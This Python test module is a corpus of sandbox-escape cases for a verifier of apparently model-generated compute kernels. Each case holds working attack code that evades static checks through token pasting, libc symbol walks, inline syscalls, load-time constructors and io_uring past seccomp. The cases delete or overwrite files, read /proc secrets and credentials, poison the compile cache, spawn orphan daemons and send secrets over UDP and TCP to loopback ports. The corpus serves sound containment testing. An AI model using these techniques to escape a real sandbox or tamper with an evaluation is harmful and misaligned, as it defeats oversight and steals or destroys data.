"""The sandbox escape corpus: candidates that try to write, delete or read what lies outside their
own directory (the benchmark build, the memory lake, the compile cache, another verification, the
user's credentials, this project's packages, other processes' /proc entries, the network).

Each case is a complete candidate (ModelNew over a load_c ReLU) whose attack runs at import time
(or at library load) with ``{{PLACEHOLDER}}`` paths filled in by the test. ``static`` names the
first tier expected to refuse it with the full policy ("build": the checks after preprocessing
and on symbols, "tokens": the checks before preprocessing), or "" where no static check can (the
run-time isolation alone must hold). Read attacks raise an exception holding what they read, so
a successful read would put the secret marker into the verdict.
"""

from __future__ import annotations

from dataclasses import dataclass, replace

RELU = r'''
#define CAT(a, b) a##b
extern "C" void relu(const float* x, float* y, long n) {
    for (long i = 0; i < n; ++i) y[i] = x[i] > 0.0f ? x[i] : 0.0f;
}
'''
TEMPLATE = '''import torch
import torch.nn as nn
from verifier.cpu_native import load_c

SOURCE = r"""
{c_code}
"""

lib = load_c(SOURCE, {functions})
{module_code}


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        x = x.contiguous()
        y = torch.empty_like(x)
        lib.relu(x, y, x.numel())
        return y
'''
LEAK_BUFFER = '''
_buf = torch.zeros(65536, dtype=torch.uint8)
lib.attack(_buf, 65536)
_text = bytes(_buf.tolist()).rstrip(b"\\0").decode("latin-1")
if _text:
    raise RuntimeError("LEAKED: " + _text)
'''
SLURP = r'''
extern "C" int CAT(op,en)(const char*, int, ...);
extern "C" long CAT(re,ad)(int, void*, unsigned long);
static long slurp(const char* path, unsigned char* buf, long cap) {
    int fd = CAT(op,en)(path, 0);
    if (fd < 0) return 0;
    long n = CAT(re,ad)(fd, buf, cap - 1);
    for (long i = 0; i < n; ++i) if (!buf[i]) buf[i] = ' ';
    return n > 0 ? n : 0;
}
'''
WRITE_DECLS = r'''
extern "C" int CAT(op,en)(const char*, int, ...);
extern "C" long CAT(wri,te)(int, const void*, unsigned long);
'''
LIBC_WALK = r'''
#include <cstdint>
#include <cstring>
#include <elf.h>
// finds a libc function by name in libc's own symbol table, starting from memcpy's address:
// no forbidden name, symbol or instruction appears anywhere in this source or object
static void* libc_function(const char* want) {
    uintptr_t base = (uintptr_t)&memcpy & ~(uintptr_t)4095;
    while (memcmp((const void*)base, "\x7f" "ELF", 4) != 0) base -= 4096;
    const Elf64_Ehdr* eh = (const Elf64_Ehdr*)base;
    const Elf64_Phdr* ph = (const Elf64_Phdr*)(base + eh->e_phoff);
    const Elf64_Dyn* dyn = 0;
    for (int i = 0; i < eh->e_phnum; ++i) if (ph[i].p_type == PT_DYNAMIC) dyn = (const Elf64_Dyn*)(base + ph[i].p_vaddr);
    const Elf64_Sym* sym = 0; const char* str = 0;
    for (; dyn && dyn->d_tag != DT_NULL; ++dyn) {
        uintptr_t at = dyn->d_un.d_ptr < base ? base + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_SYMTAB) sym = (const Elf64_Sym*)at;
        if (dyn->d_tag == DT_STRTAB) str = (const char*)at;
    }
    for (const Elf64_Sym* s = sym; s && (const char*)s < str; ++s)
        if (s->st_value && strcmp(str + s->st_name, want) == 0) return (void*)(base + s->st_value);
    return 0;
}
'''


@dataclass(frozen=True)
class EscapeCase:
    name: str
    covers: str
    c_code: str  # the attack's C (RELU is prepended)
    functions: str  # load_c signatures of the attack functions, e.g. '"attack": ""'
    module_code: str  # Python run at import after load_c
    static: str = ""  # "build" | "tokens" | "" (see the module doc)
    z23: str = ""  # the class of issue 23 the case belongs to ("" for the cases written before it)

    def source(self, fill: dict[str, str]) -> str:
        functions = '{"relu": "const float*, float*, int64"' + (", " + self.functions if self.functions else "") + "}"
        text = TEMPLATE.format(c_code=RELU + self.c_code, functions=functions, module_code=self.module_code)
        for key, value in fill.items():
            text = text.replace("{{" + key + "}}", value)
        return text


def native(name: str, covers: str, c_code: str, static: str = "build", leak: bool = False) -> EscapeCase:
    if leak:
        return EscapeCase(name, covers, c_code, '"attack": "uint8*, int64"', LEAK_BUFFER, static)
    return EscapeCase(name, covers, c_code, '"attack": ""', "lib.attack()\n", static)


def python(name: str, covers: str, module_code: str, static: str = "") -> EscapeCase:
    return EscapeCase(name, covers, "", "", module_code, static)


CASES = (
    native("c_paste_fopen_build_manifest", "token pasting to fopen: overwrite the build's manifest", r'''
extern "C" { struct F; F* CAT(fop,en)(const char*, const char*); int CAT(fpu,ts)(const char*, F*); int CAT(fclo,se)(F*); }
extern "C" void attack() { F* f = CAT(fop,en)("{{BUILD_MANIFEST}}", "w"); if (f) { CAT(fpu,ts)("pwned", f); CAT(fclo,se)(f); } }
'''),
    native("c_paste_open_lake", "token pasting to open/write: truncate a lake Parquet file", WRITE_DECLS + r'''
extern "C" void attack() { int fd = CAT(op,en)("{{LAKE_FILE}}", 01 | 01000); if (fd >= 0) CAT(wri,te)(fd, "pwned", 5); }
'''),
    native("c_paste_unlink_other_verification", "token pasting to unlink: delete another verification's file", r'''
extern "C" int CAT(unl,ink)(const char*);
extern "C" void attack() { CAT(unl,ink)("{{OTHER_FILE}}"); }
'''),
    native("c_paste_rename_credentials", "token pasting to rename: move the user's credentials away", r'''
extern "C" int CAT(ren,ame)(const char*, const char*);
extern "C" void attack() { CAT(ren,ame)("{{CREDENTIALS}}", "stolen"); }
'''),
    native("c_paste_syscall_cache", "token pasting to syscall: openat+write a cached library of another candidate", r'''
extern "C" long CAT(sys,call)(long, ...);
extern "C" void attack() { long fd = CAT(sys,call)(257, -100, "{{CACHE_LIB}}", 01 | 01000); if (fd >= 0) CAT(sys,call)(1, fd, "pwned", 5); }
'''),
    native("c_asm_through_macro", "inline asm spelled through a macro: raw open/write syscalls on the lake catalog", r'''
#define ASM CAT(__as,m__)
static long raw3(long n, long a, long b, long c) {
    long r; ASM volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory"); return r;
}
extern "C" void attack() { long fd = raw3(2, (long)"{{LAKE_CATALOG}}", 01 | 01000, 0); if (fd >= 0) raw3(1, fd, (long)"pwned", 5); }
'''),  # no symbol, but the built object holds the syscall instruction (verifier.gates.native_instructions)
    native("c_dlsym_computed_name", "dlsym (pasted) of a name built at run time: unlink the build's problem file", r'''
extern "C" void* CAT(dl,sym)(void*, const char*);
extern "C" void attack() {
    char name[8] = {'u', 'n', 'l', 'i', 'n', 'k', 0};
    int (*fn)(const char*) = (int (*)(const char*))CAT(dl,sym)((void*)0, name);
    if (fn) fn("{{BUILD_PROBLEM}}");
}
'''),
    native("c_libc_symbol_walk", "openat found by walking libc's symbol table in memory: overwrite the build manifest",
           LIBC_WALK + r'''
extern "C" void attack() {
    long (*op)(int, const char*, int, ...) = (long (*)(int, const char*, int, ...))libc_function("openat");
    long (*wr)(long, const void*, unsigned long) = (long (*)(long, const void*, unsigned long))libc_function("write");
    long fd = op && wr ? op(-100, "{{BUILD_MANIFEST}}", 01 | 01000) : -1;
    if (fd >= 0) wr(fd, "pwned", 5);
}
''', static=""),
    native("c_constructor_through_macro", "a load-time constructor spelled through a macro: delete the lake catalog", r'''
#define HOOK __attribute__((CAT(constr,uctor)))
extern "C" int CAT(unl,ink)(const char*);
HOOK static void at_load() { CAT(unl,ink)("{{LAKE_CATALOG}}"); }
extern "C" void attack() {}
'''),
    native("c_init_array_section", "a function pointer placed in .init_array: delete the lake file at load", r'''
extern "C" int CAT(unl,ink)(const char*);
static void at_load() { CAT(unl,ink)("{{LAKE_FILE}}"); }
#define SECTION(s) __attribute__((section(s), used))
SECTION(".init_array") static void (*hook)() = at_load;
extern "C" void attack() {}
'''),
    native("c_computed_include_secret", "a computed #include of the user's credentials (leaks through diagnostics)", r'''
#define SECRET_FILE "{{CREDENTIALS}}"
#include SECRET_FILE
extern "C" void attack() {}
''', static="tokens"),
    native("c_paste_freopen_stdout", "freopen (pasted) of stdout onto a lake file, then printf", r'''
#include <cstdio>
extern "C" void attack() { if (CAT(freo,pen)("{{LAKE_FILE}}", "w", stdout)) { printf("pwned\n"); fflush(stdout); } }
'''),
    native("c_paste_system", "system (pasted): a shell writes a new file in /tmp", r'''
extern "C" int CAT(sys,tem)(const char*);
extern "C" void attack() { CAT(sys,tem)("echo pwned > {{TMP_NEW}}"); }
'''),
    native("c_hardlink_into_private_dir", "hard link of a lake file into the private dir, then write through it",
           WRITE_DECLS + r'''
extern "C" int CAT(li,nk)(const char*, const char*);
extern "C" void attack() { CAT(li,nk)("{{LAKE_FILE}}", "lake_link"); int fd = CAT(op,en)("lake_link", 01 | 01000); if (fd >= 0) CAT(wri,te)(fd, "pwned", 5); }
'''),
    native("c_symlink_into_private_dir", "symbolic link to the build manifest in the private dir, then write through it",
           WRITE_DECLS + r'''
extern "C" int CAT(syml,ink)(const char*, const char*);
extern "C" void attack() { CAT(syml,ink)("{{BUILD_MANIFEST}}", "manifest_link"); int fd = CAT(op,en)("manifest_link", 01 | 01000); if (fd >= 0) CAT(wri,te)(fd, "pwned", 5); }
'''),
    native("c_paste_chmod_build_manifest", "chmod (pasted) of the build manifest to 000 (Landlock does not govern metadata)", r'''
extern "C" int CAT(chm,od)(const char*, unsigned);
extern "C" void attack() { CAT(chm,od)("{{BUILD_MANIFEST}}", 0); }
'''),
    native("c_read_parent_cmdline_environ", "read a trusted process's /proc cmdline and environ (its secrets)", SLURP + r'''
extern "C" void attack(unsigned char* buf, long cap) {
    long n = slurp("/proc/{{PARENT_PID}}/cmdline", buf, cap / 2);
    slurp("/proc/{{PARENT_PID}}/environ", buf + n, cap / 2);
}
''', leak=True),
    native("c_read_other_verification", "read another verification's candidate", SLURP + r'''
extern "C" void attack(unsigned char* buf, long cap) { slurp("{{OTHER_FILE}}", buf, cap); }
''', leak=True),
    native("c_parent_memory", "open a trusted process's /proc/<pid>/mem (its seed and nonces)", SLURP + r'''
extern "C" void attack(unsigned char* buf, long cap) { slurp("/proc/{{PARENT_PID}}/maps", buf, cap); }
''', leak=True),
    python("py_torch_save_lake", "import-time torch.save over a lake Parquet file",
           'torch.save({"pwned": 1}, "{{LAKE_FILE}}")\n'),
    python("py_torch_load_other_outputs", "import-time torch.load of another verification's saved outputs",
           'raise RuntimeError("LEAKED: " + str(torch.load("{{OTHER_PICKLE}}")))\n'),
    python("py_torch_from_file_shared", "import-time torch.from_file(shared=True) zeroing the build manifest",
           'torch.from_file("{{BUILD_MANIFEST}}", shared=True, size=16, dtype=torch.uint8).zero_()\n'),
    python("py_numpy_tofile", "import-time numpy tofile over the lake catalog",
           'import numpy\nnumpy.zeros(4).tofile("{{LAKE_CATALOG}}")\n'),
    python("py_numpy_memmap", "import-time numpy memmap (r+) of a file in this project's package",
           'import numpy\n_m = numpy.memmap("{{PROJECT_FILE}}", mode="r+", dtype="uint8")\n_m[:] = 0\n_m.flush()\n'),
    python("py_ctypes_libc_unlink", "ctypes to libc: unlink another verification's file",
           'import ctypes\nctypes.CDLL(None).unlink(b"{{OTHER_FILE}}")\n'),
    python("py_builtins_open_obfuscated", "open() fetched through builtins by a computed name: overwrite a cache manifest",
           'import builtins\nbuiltins.__dict__["op" + "en"]("{{CACHE_MANIFEST}}", "w").write("{}")\n'),
    python("py_os_rename_credentials", "os.rename of the user's credentials into the private dir",
           'import os\nos.rename("{{CREDENTIALS}}", "stolen")\n'),
    python("py_chmod_and_utime_lake", "os.chmod to 000 and os.utime of lake files (metadata, not bytes)",
           'import os\nos.utime("{{LAKE_CATALOG}}", (0, 0))\nos.chmod("{{LAKE_FILE}}", 0)\n'),
    python("py_shutil_rmtree_lake", "shutil.rmtree of the whole lake",
           'import shutil\nshutil.rmtree("{{LAKE_DIR}}")\n'),
    python("py_write_tmp", "a new file in /tmp (outside the private dir)",
           'import pathlib\npathlib.Path("{{TMP_NEW}}").write_text("pwned")\n'),
    python("py_write_dev_shm", "a replay file in /dev/shm",
           'open("/dev/shm/{{SHM_NAME}}", "w").write("pwned")\n'),
    python("py_read_parent_cmdline_environ", "read a trusted process's /proc cmdline and environ",
           '_leak = [open("/proc/{{PARENT_PID}}/" + n, "rb").read().replace(b"\\0", b" ").decode() '
           'for n in ("cmdline", "environ")]\nraise RuntimeError("LEAKED: " + " ".join(_leak))\n'),
    python("py_scan_proc", "list /proc and read every other process's cmdline",
           'import os\n_leak = [open(f"/proc/{p}/cmdline", "rb").read().decode(errors="ignore") for p in os.listdir("/proc") '
           'if p.isdigit() and int(p) != os.getpid()]\nraise RuntimeError("LEAKED: " + " ".join(_leak))\n'),
    python("py_read_other_verification", "list and read another verification's directory",
           'import os\nraise RuntimeError("LEAKED: " + str(os.listdir("{{OTHER_DIR}}")) + open("{{OTHER_FILE}}").read())\n'),
    python("py_read_lake_and_cache", "read the lake and the compile cache (other candidates' code)",
           'import os\nraise RuntimeError("LEAKED: " + open("{{LAKE_SECRET}}").read() + str(os.listdir("{{CACHE_ROOT}}")) '
           '+ open("{{CACHE_SECRET}}").read())\n'),
    python("py_read_credentials_and_verification_root", "read the user's credentials and the verification's own root",
           'import os\nraise RuntimeError("LEAKED: " + str(os.listdir("..")) + open("{{CREDENTIALS}}").read())\n'),
    python("py_os_system", "os.system at import: a shell writes a new file in /tmp",
           'import os\nos.system("echo pwned > {{TMP_NEW}}")\n'),
    python("py_socket_connect", "a TCP connection to a loopback server (exfiltration)",
           'import socket\nsocket.create_connection(("127.0.0.1", {{PORT}}), timeout=2).sendall(b"pwned")\n'),
)


# ---- issue 23: the zero-trust verifier's escape classes ---------------------------------------------
# Each case below carries ``z23``, the class of issue 23 it belongs to:
#   "1" candidate code that runs before confinement (a library's load-time code: constructor or
#       static initializer) sends secrets over UDP and TCP, double-forks a daemon, changes the
#       metadata of stored files, or writes into the compile cache's slot of another source;
#   "3" io_uring after seccomp: operations the per-syscall filter never sees.
# (Classes 2, 4, 5, 6 and the runner's misbehaviour live in the test_z23_*.py modules and the
# hack_z23_* fixtures.) Their targets are per case (``{{CASE_MANIFEST}}``, ``{{CASE_LAKE}}``, own UDP
# and TCP ports, a daemon name) so that what acted is attributed to the case that did it.

# Runs Python from native code through CPython API symbols the build checks allow (Py*, declared weak
# so that load_c's -Wl,--no-undefined links): builtins' exec on a string. No Python name appears in
# the candidate's Python source, so no Python check ever reads the payload.
PY_EXEC = r'''
extern "C" {
typedef struct _object PyObject;
__attribute__((weak)) int PyGILState_Ensure(void);
__attribute__((weak)) void PyGILState_Release(int);
__attribute__((weak)) PyObject* PyEval_GetBuiltins(void);
__attribute__((weak)) PyObject* PyDict_GetItemString(PyObject*, const char*);
__attribute__((weak)) PyObject* PyDict_New(void);
__attribute__((weak)) PyObject* PyObject_CallFunction(PyObject*, const char*, ...);
__attribute__((weak)) void PyErr_Clear(void);
__attribute__((weak)) void Py_DecRef(PyObject*);
}
static void run_python(const char* code) {
    if (!PyGILState_Ensure) return;
    int gil = PyGILState_Ensure();
    PyObject* fn = PyDict_GetItemString(PyEval_GetBuiltins(), "exec");
    PyObject* globals = PyDict_New();
    PyObject* result = fn ? PyObject_CallFunction(fn, "sO", code, globals) : 0;
    if (result) Py_DecRef(result); else PyErr_Clear();
    Py_DecRef(globals);
    PyGILState_Release(gil);
}
'''
# What the candidate's process knows, found through the garbage collector: the sandbox's own
# configuration (nonce, seeds, working directory), its environment and arguments.
SECRETS_PY = r'''
import gc, os, sys
found = []
for o in gc.get_objects():
    kind = type(o).__name__
    if kind in ("ChildConfig", "ReferenceConfig", "Secrets"):
        trials = getattr(o, "trials", None)
        found.append(f"{kind} nonce={getattr(o, 'nonce', '')} workdir={getattr(o, 'workdir', '')} "
                     f"init_seed={getattr(trials, 'init_seed', '')} input_seed={getattr(trials, 'input_seed', '')}")
secrets = ("z23 {{CASE}} " + " | ".join(found) + f" | env={dict(os.environ)} | argv={sys.argv} | cwd={os.getcwd()}")
'''
UDP_PY = r'''
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(secrets.encode()[:60000], ("127.0.0.1", {{UDP_PORT}}))
'''
TCP_PY = r'''
import socket
socket.create_connection(("127.0.0.1", {{TCP_PORT}}), timeout=2).sendall(secrets.encode())
'''
HOOK = r'''
#define HOOK __attribute__((CAT(constr,uctor)))
'''
NET_DECLS = r'''
extern "C" int CAT(soc,ket)(int, int, int);
extern "C" long CAT(send,to)(int, const void*, unsigned long, int, const void*, unsigned);
extern "C" int CAT(conn,ect)(int, const void*, unsigned);
static void ipv4(unsigned char* a, int port) {
    for (int i = 0; i < 16; ++i) a[i] = 0;
    a[0] = 2; a[2] = (unsigned char)(port >> 8); a[3] = (unsigned char)port; a[4] = 127; a[7] = 1;
}
static void udp_send(const char* text, int port) {
    unsigned char a[16]; ipv4(a, port);
    int s = CAT(soc,ket)(2, 2, 0);
    if (s >= 0) CAT(send,to)(s, text, __builtin_strlen(text), 0, a, 16);
}
'''
# A minimal io_uring without liburing: the ring set up and driven through one system-call function
# (``zsys``: inline assembly, or libc's own syscall() found at run time), one request at a time.
URING = r'''
static long (*zsys)(long, long, long, long, long, long, long);
struct z_sqe { unsigned char opcode, flags; unsigned short ioprio; int fd; unsigned long off, addr; unsigned len, op_flags;
               unsigned long user_data; unsigned short buf_index, personality; unsigned file_index; unsigned long addr3, pad; };
struct z_cqe { unsigned long user_data; int res; unsigned flags; };
struct z_sqoff { unsigned head, tail, ring_mask, ring_entries, flags, dropped, array, resv1; unsigned long user_addr; };
struct z_cqoff { unsigned head, tail, ring_mask, ring_entries, overflow, cqes, flags, resv1; unsigned long user_addr; };
struct z_params { unsigned sq_entries, cq_entries, flags, sq_thread_cpu, sq_thread_idle, features, wq_fd, resv[3];
                  struct z_sqoff sq_off; struct z_cqoff cq_off; };
struct z_ring { int fd; char* sq; struct z_sqe* sqes; struct z_params p; };
static int z_ring_init(struct z_ring* r) {
    __builtin_memset(&r->p, 0, sizeof(r->p));
    long fd = zsys(425, 4, (long)&r->p, 0, 0, 0, 0);  // io_uring_setup
    if (fd < 0) return -1;
    r->fd = (int)fd;
    long sq_size = r->p.sq_off.array + r->p.sq_entries * 4;
    long cq_size = r->p.cq_off.cqes + r->p.cq_entries * (long)sizeof(struct z_cqe);
    long ring = zsys(9, 0, sq_size > cq_size ? sq_size : cq_size, 3, 0x8001, fd, 0);  // mmap MAP_SHARED|MAP_POPULATE
    long sqes = zsys(9, 0, r->p.sq_entries * (long)sizeof(struct z_sqe), 3, 0x8001, fd, 0x10000000L);
    if ((unsigned long)ring > -4096UL || (unsigned long)sqes > -4096UL) return -1;
    r->sq = (char*)ring; r->sqes = (struct z_sqe*)sqes;
    return 0;
}
static int z_ring_do(struct z_ring* r, const struct z_sqe* e) {  // submit one request, wait, its result
    unsigned* tail = (unsigned*)(r->sq + r->p.sq_off.tail);
    unsigned idx = *tail & *(unsigned*)(r->sq + r->p.sq_off.ring_mask);
    r->sqes[idx] = *e;
    ((unsigned*)(r->sq + r->p.sq_off.array))[idx] = idx;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    if (zsys(426, r->fd, 1, 1, 1, 0, 0) < 0) return -1;  // io_uring_enter(fd, 1, 1, IORING_ENTER_GETEVENTS)
    unsigned* head = (unsigned*)(r->sq + r->p.cq_off.head);
    unsigned h = __atomic_load_n(head, __ATOMIC_ACQUIRE);
    struct z_cqe* c = (struct z_cqe*)(r->sq + r->p.cq_off.cqes) + (h & *(unsigned*)(r->sq + r->p.cq_off.ring_mask));
    int res = c->res;
    __atomic_store_n(head, h + 1, __ATOMIC_RELEASE);
    return res;
}
enum { OP_CONNECT = 16, OP_OPENAT = 18, OP_WRITE = 23, OP_SETXATTR = 42, OP_SOCKET = 45 };
static int z_op(struct z_ring* r, unsigned char op, int fd, unsigned long off, unsigned long addr, unsigned len,
                unsigned op_flags, unsigned long addr3) {
    struct z_sqe e; __builtin_memset(&e, 0, sizeof(e));
    e.opcode = op; e.fd = fd; e.off = off; e.addr = addr; e.len = len; e.op_flags = op_flags; e.addr3 = addr3;
    return z_ring_do(r, &e);
}
'''
ASM_SYSCALL = r'''
#define ASM CAT(__as,m__)
static long asm_syscall(long n, long a, long b, long c, long d, long e, long f) {
    long r;
    register long r10 ASM("r10") = d; register long r8 ASM("r8") = e; register long r9 ASM("r9") = f;
    ASM volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9) : "rcx", "r11", "memory");
    return r;
}
'''
# a source the compile cache has never seen, whose slot the poisoning cases write into; the honest
# candidate built on it must pass after them (tests/verifier/test_sandbox_escapes.py)
POISON_TARGET = r'''
// z23: the poisoning target (an honest ReLU)
extern "C" void relu(const float* x, float* y, long n) {
    for (long i = 0; i < n; ++i) y[i] = x[i] > 0.0f ? x[i] : 0.0f;
}
'''
EVIL = r'''
// what a poisoned cache entry would hand the next candidate: the identity (tagged for the attacker to find)
extern "C" const char z23_tag[] = "z23-evil";
extern "C" void relu(const float* x, float* y, long n) { for (long i = 0; i < n; ++i) y[i] = x[i]; }
'''
POISON_PY = r'''
import glob, os, shutil
evil = [p for p in glob.glob("**/cpu/*/kernel.so", recursive=True) if b"z23-evil" in open(p, "rb").read()]
for target in glob.glob("**/cpu/{{POISON_KEY}}/kernel.so", recursive=True):
    if evil:  # a new file over the slot (the loaded library's mapping stays intact)
        shutil.copyfile(evil[0], target + ".new")
        os.replace(target + ".new", target)
'''
POISON_MODULE = '''
EVIL = r"""{{EVIL_SOURCE}}"""
TARGET = r"""{{POISON_SOURCE}}"""
_evil = load_c(EVIL, {"relu": "const float*, float*, int64"})
_target = load_c(TARGET, {"relu": "const float*, float*, int64"})
'''
METADATA_DECLS = r'''
extern "C" int CAT(chm,od)(const char*, unsigned);
extern "C" int CAT(ut,ime)(const char*, const void*);
extern "C" int CAT(setx,attr)(const char*, const char*, const void*, unsigned long, int);
'''


def c_string(python: str) -> str:
    """Python code as one C string literal (the token checks skip string literals, as a compiler would)."""
    return '"' + python.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'


def z23(case: EscapeCase, cls: str) -> EscapeCase:
    return replace(case, z23=cls)


Z23_CASES = (
    z23(native("z23_ctor_udp_secrets", "a constructor (spelled through a macro) sends the sandbox's secrets over UDP: "
               "from native code, and from Python it runs through the CPython API", PY_EXEC + NET_DECLS + HOOK + r'''
HOOK static void at_load() {
    udp_send("z23 {{CASE}} native constructor", {{UDP_PORT}});
    run_python(''' + c_string(SECRETS_PY + UDP_PY) + r''');
}
extern "C" void attack() {}
''', static="tokens"), "1"),
    z23(native("z23_ctor_tcp_secrets", "a constructor sends the sandbox's secrets over TCP, natively and from Python",
               PY_EXEC + NET_DECLS + HOOK + r'''
HOOK static void at_load() {
    unsigned char a[16]; ipv4(a, {{TCP_PORT}});
    int s = CAT(soc,ket)(2, 1, 0);
    if (s >= 0 && CAT(conn,ect)(s, a, 16) == 0) CAT(send,to)(s, "z23 {{CASE}}", __builtin_strlen("z23 {{CASE}}"), 0, 0, 0);
    run_python(''' + c_string(SECRETS_PY + TCP_PY) + r''');
}
extern "C" void attack() {}
''', static="tokens"), "1"),
    z23(native("z23_ctor_double_fork_daemon", "a constructor double-forks a daemon into its own session that outlives "
               "the verdict (renamed, sending UDP heartbeats)", NET_DECLS + HOOK + r'''
extern "C" int CAT(fo,rk)();
extern "C" int CAT(set,sid)();
extern "C" int CAT(pr,ctl)(int, unsigned long, unsigned long, unsigned long, unsigned long);
extern "C" unsigned CAT(sle,ep)(unsigned);
extern "C" void CAT(_ex,it)(int);
HOOK static void at_load() {
    if (CAT(fo,rk)() != 0) return;  // the sandbox goes on as if nothing happened
    CAT(set,sid)();
    if (CAT(fo,rk)() != 0) CAT(_ex,it)(0);  // the middle process exits: the daemon is an orphan
    CAT(pr,ctl)(15, (unsigned long)"{{DAEMON_NAME}}", 0, 0, 0);  // PR_SET_NAME
    for (int i = 0; i < 60; ++i) { udp_send("z23 {{CASE}} daemon alive", {{UDP_PORT}}); CAT(sle,ep)(1); }
    CAT(_ex,it)(0);
}
extern "C" void attack() {}
'''), "1"),
    z23(native("z23_ctor_metadata_manifest_and_lake", "a constructor chmods, utimes and setxattrs the build's "
               "manifest.parquet and a lake file (uid 0 without capabilities owns them)", METADATA_DECLS + HOOK + r'''
HOOK static void at_load() {
    long zero[2] = {0, 0};
    const char* files[2] = {"{{CASE_MANIFEST}}", "{{CASE_LAKE}}"};
    for (int i = 0; i < 2; ++i) {
        CAT(setx,attr)(files[i], "user.z23", "pwned", 5, 0);
        CAT(ut,ime)(files[i], zero);
        CAT(chm,od)(files[i], 0);
    }
}
extern "C" void attack() {}
'''), "1"),
    z23(replace(native("z23_ctor_cache_poison_other_key", "once a wrong library and another source's are built, "
                       "the candidate's code copies the wrong one into the other's build slot (the cache would hand "
                       "it to the next honest candidate); builds are served in call order, so it acts after both",
                       PY_EXEC + r'''
extern "C" void attack() { run_python(''' + c_string(POISON_PY) + r'''); }
''', static="tokens"), module_code=POISON_MODULE + "lib.attack()\n"), "1"),
    z23(replace(native("z23_uring_socket_udp_secrets", "io_uring IORING_OP_SOCKET makes a UDP socket the seccomp filter never "
               "sees, then sendto() sends the secrets; syscall() is found by walking libc's symbols, so no "
               "static check sees a system call", LIBC_WALK + URING + r'''
extern "C" void attack(unsigned char* text, long n) {
    zsys = (long (*)(long, long, long, long, long, long, long))libc_function("syscall");
    struct z_ring r;
    if (!zsys || z_ring_init(&r) != 0) return;
    int s = z_op(&r, OP_SOCKET, 2, 2, 0, 0, 0, 0);  // AF_INET, SOCK_DGRAM
    unsigned char a[16] = {2, 0, (unsigned char)({{UDP_PORT}} >> 8), (unsigned char){{UDP_PORT}}, 127, 0, 0, 1};
    if (s >= 0) zsys(44, s, (long)text, n, 0, (long)a, 16);  // sendto: not filtered
}
''', static=""), module_code=SECRETS_PY + "_text = torch.tensor(list(secrets.encode()[:60000]), dtype=torch.uint8)\n"
                                "lib.attack(_text, _text.numel())\n", functions='"attack": "uint8*, int64"'), "3"),
    z23(native("z23_uring_setxattr_manifest", "io_uring IORING_OP_SETXATTR sets an extended attribute on the build's "
               "manifest and a lake file after seccomp (raw syscalls through inline assembly)", ASM_SYSCALL + URING + r'''
extern "C" void attack() {
    zsys = asm_syscall;
    struct z_ring r;
    if (z_ring_init(&r) != 0) return;
    z_op(&r, OP_SETXATTR, 0, (unsigned long)"pwned", (unsigned long)"user.z23", 5, 0, (unsigned long)"{{CASE_MANIFEST}}");
    z_op(&r, OP_SETXATTR, 0, (unsigned long)"pwned", (unsigned long)"user.z23", 5, 0, (unsigned long)"{{CASE_LAKE}}");
}
'''), "3"),
    z23(native("z23_uring_openat_write", "io_uring IORING_OP_OPENAT and IORING_OP_WRITE: truncate and write the build's "
               "manifest, create a file in /tmp", ASM_SYSCALL + URING + r'''
extern "C" void attack() {
    zsys = asm_syscall;
    struct z_ring r;
    if (z_ring_init(&r) != 0) return;
    int fd = z_op(&r, OP_OPENAT, -100, 0, (unsigned long)"{{CASE_MANIFEST}}", 0, 01 | 01000, 0);  // O_WRONLY|O_TRUNC
    if (fd >= 0) z_op(&r, OP_WRITE, fd, 0, (unsigned long)"pwned", 5, 0, 0);
    fd = z_op(&r, OP_OPENAT, -100, 0, (unsigned long)"{{TMP_NEW}}", 0644, 01 | 0100, 0);  // O_WRONLY|O_CREAT
    if (fd >= 0) z_op(&r, OP_WRITE, fd, 0, (unsigned long)"pwned", 5, 0, 0);
}
'''), "3"),
    z23(native("z23_uring_connect_tcp", "io_uring IORING_OP_SOCKET and IORING_OP_CONNECT to a loopback TCP server",
               ASM_SYSCALL + URING + r'''
extern "C" void attack() {
    zsys = asm_syscall;
    struct z_ring r;
    if (z_ring_init(&r) != 0) return;
    int s = z_op(&r, OP_SOCKET, 2, 1, 0, 0, 0, 0);  // AF_INET, SOCK_STREAM
    unsigned char a[16] = {2, 0, (unsigned char)({{TCP_PORT}} >> 8), (unsigned char){{TCP_PORT}}, 127, 0, 0, 1};
    if (s >= 0 && z_op(&r, OP_CONNECT, s, 16, (unsigned long)a, 0, 0, 0) == 0) zsys(44, s, (long)"z23", 3, 0, 0, 0);
}
'''), "3"),
)
CASES = CASES + Z23_CASES


# ---- the fork server (verifier.sandbox.zygote) -----------------------------------------------------
# A runner forked from a long-lived server instead of exec'd: it starts with the server's memory
# (copy-on-write: torch, the preloaded modules, remnants of the requests that forked earlier processes),
# its address-space layout, its original environment and command line (/proc/self/environ and
# cmdline still show the server's), its stack of frames (the launcher's code called the role's main)
# and the packages the server imported (through import links in its own directory until d35e91c:
# ``verifier.__path__`` pointed there). Each case below uses one of these. An attack that sees it
# succeeded says so in its verdict (``ESCAPED_TAG``, spelled at run time so that no traceback line shows
# it); the containment test fails on it. Under the exec'd launcher (EVOKERNEL_FORK_SERVER=0) the same
# cases find nothing of the server to use.
ESCAPED_TAG = "ESCAPED:"
FORK_REPORT = r'''
import ctypes, os, re, sys
_ESC = "ESC" + "APED:"
_hits = []


def _try(what, action):
    """Run one attack step; a step that does not raise is a hit (it crossed the sandbox's boundary)."""
    try:
        result = action()
    except BaseException as exc:  # refused: contained
        return f"{what}: {type(exc).__name__}"
    _hits.append(f"{what} -> {str(result)[:160]}")
    return f"{what}: done"


def _report(summary):
    if _hits:
        raise RuntimeError(_ESC + " " + " | ".join(_hits)[:1500])
    raise RuntimeError("contained: " + summary[:1500])


def _own_root():
    return os.path.dirname(os.getcwd())  # <site>/work is the process's directory


def _memory(patterns, biggest=64 << 20):
    """Every match of ``patterns`` in this process's readable anonymous memory (heap, stacks, arenas:
    what the fork server held when it forked the launcher), read through /proc/self/mem."""
    found = [set() for _ in patterns]
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
        for line in maps.read().splitlines():
            parts = line.split(None, 5)
            name = parts[5] if len(parts) > 5 else ""
